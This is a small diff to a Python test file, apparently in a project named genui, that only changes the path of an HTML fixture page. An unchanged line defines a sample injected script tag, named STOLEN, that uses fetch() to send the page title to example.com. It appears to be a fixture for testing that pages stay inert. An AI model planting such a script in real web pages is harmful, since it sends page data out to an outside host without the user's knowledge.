@@ -13,7 +13,7 @@ from genui.cli import main
 from genui.inert import prove
 from genui.serve.directory import ALLOW
 
-PAGE = (Path(__file__).parent / "cases" / "pages" / "ok-plain" / "page.html").read_text(encoding="utf-8")
+PAGE = (Path(__file__).parent / "cases" / "pages" / "ok-plain.html").read_text(encoding="utf-8")
 STOLEN = b"<script>fetch('https://example.com/' + document.title)</script></body>"
 
 
